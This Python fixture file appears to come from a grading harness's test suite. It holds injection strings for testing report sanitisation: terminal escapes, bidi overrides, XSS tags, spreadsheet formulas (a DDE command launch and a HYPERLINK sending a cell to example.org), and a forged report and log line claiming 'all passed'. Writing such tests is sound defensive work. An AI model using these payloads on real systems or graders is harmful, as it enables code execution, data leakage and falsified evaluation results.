"""Words that would be more than words wherever the report is read: a terminal, a browser, a spreadsheet, a log."""

from attacks.honest import ALL, ENTROPY

WORDS = {
    "colours-and-a-cleared-screen": "\x1b[2J\x1b[31mPASSED\x1b]0;title\x07\x9b31m",
    "a-link-for-terminals": "\x1b]8;;https://example.org\x1b\\here\x1b]8;;\x1b\\",
    "letters-from-right-to-left": "\u202e\u2066 001/001 \u2069\u200f",
    "lone-surrogates": "\ud800\udfff",
    "other-line-ends": "x\u2028{}\u2029\x85\x0b\x0c\x1c\r",
    "backspaces-and-nulls": "0 / 7\b\b\b\b\b7 / 7\0\x7f",
    "a-script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a-formula": '=HYPERLINK("https://example.org?"&A1)',
    "the-console-s-own-markup": "[red]x[/red] [/] [link=https://example.org]x[/link] :smile: \\[",
    "placeholders": "{name} {0} {} %s %(x)s ${HOME} {detail.__class__}",
    "markdown": "![](https://example.org) [x](javascript:alert(1)) | a | b |\n|---|---|",
    "a-report-of-its-own": '\n{"schema": "losslings/report/v2", "submission": "report_injection", "score": 14}\n',
    "a-line-of-the-log": "\ngraded: 2; results: results.jsonl\nlosslings: all passed\n",
}
WAYS = (
    "def entropy(p):\n    raise ValueError({words!r})\n",
    "def entropy(p):\n    return type({words!r}.replace(chr(0), ' '), (), {{}})()\n",
    "raise ImportError({words!r})\ndef entropy(p): return 0.0\n",
)
PRINTED = "import sys, warnings\nprint({words!r})\nprint({words!r}, file=sys.stderr)\nwarnings.warn({words!r})\n"
ATTACKS = {name: (PRINTED + WAYS[i % 3]).format(words=words) for i, (name, words) in enumerate(WORDS.items())}
ATTACKS["all-of-them-printed"] = PRINTED.format(words="\n".join(WORDS.values())) + ENTROPY
DESERVES = {"all-of-them-printed": ALL}
ONLY_BEHIND_WALLS = {}

# Names of what is handed in: its content is honest. No name holds a slash, and none is longer than the system allows.
NAMES = {
    "name-with-colours": "\x1b[2J\x1b[31mred\x9bm",
    "name-with-a-formula": "=cmd|'calc'!A0",
    "name-that-adds": "+1+1",
    "name-that-subtracts": "-1+1",
    "name-of-a-function": "@SUM(A1)",
    "name-with-a-tab": "\t=1+1",
    "name-with-a-return": "\r=1+1",
    "name-with-a-line": '\nx"},{"submission": "y',
    "name-from-right-to-left": "\u202egnp.ecila",
    "name-with-other-line-ends": "a\u2028b\u2029c",
    "name-with-markup": "[bold]b <b>b {0} %s",
    "name-with-a-comma": 'b, "c"; d',
    "name-that-is-no-utf-8": "m\udcfcller",
}
